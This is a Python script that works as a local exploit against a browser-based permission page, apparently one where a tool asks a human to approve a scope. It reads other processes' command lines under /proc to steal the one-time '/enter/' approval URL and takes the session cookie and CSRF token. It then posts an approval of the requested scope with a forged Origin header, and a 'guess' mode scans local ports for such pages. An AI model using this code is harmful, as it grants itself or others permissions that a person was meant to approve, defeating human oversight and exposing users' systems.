"""Reads the page's address, goes there, and says yes to one scope. Prints the title of the page that it got last."""

import http.client, os, re, sys, time, urllib.parse

mode, scope, lifetime = sys.argv[1:]

def listening():
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(table).readlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":
                yield int(fields[1].rsplit(":", 1)[1], 16)

def address():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = open(f"/proc/{pid}/cmdline").read().split("\0")
        except OSError:
            continue
        for word in words:
            if "/enter/" in word and word.startswith("http://localhost:") and word not in tried:
                return word

def request(port, method, path, body=None, headers={}):
    connection = http.client.HTTPConnection("localhost", port, timeout=5)
    connection.request(method, path, body, {"Host": f"localhost:{port}", **headers})
    answer = connection.getresponse()
    return answer, answer.read().decode()

if mode == "guess":
    found = "no page"
    for port in listening():
        for path in ("/", "/enter/", "/enter/" + "0" * 64):
            try:
                answer, text = request(port, "GET", path)
            except (OSError, http.client.HTTPException):
                continue
            if "tool" in text and "asks" in text:
                found = f"a page on {port}"
    print(found)
    sys.exit()

tried, end = set(), time.time() + 35
while time.time() < end:
    url = address()
    if url is None:
        time.sleep(0.05)
        continue
    tried.add(url)
    url = urllib.parse.urlsplit(url)
    answer, text = request(url.port, "GET", url.path)
    if answer.status != 303:
        continue
    cookie = answer.getheader("set-cookie").split(";")[0]
    base = url.path.split("enter/")[0]
    answer, text = request(url.port, "GET", base, headers={"Cookie": cookie})
    for form in re.findall(r"<form.*?</form>", text, re.S):
        if scope not in form:
            continue
        action = re.search(r'action="([^"]*)"', form).group(1)
        token = re.search(r'name="token" value="([^"]*)"', form).group(1)
        body = urllib.parse.urlencode({"token": token, "scope0": lifetime, "do": "answer"})
        headers = {"Cookie": cookie, "Origin": f"http://localhost:{url.port}",
                   "Content-Type": "application/x-www-form-urlencoded"}
        answer, text = request(url.port, "POST", action, body, headers)
        print(re.search(r"<title>(.*?)</title>", text).group(1))
        sys.exit()
print("no page that asks for it")
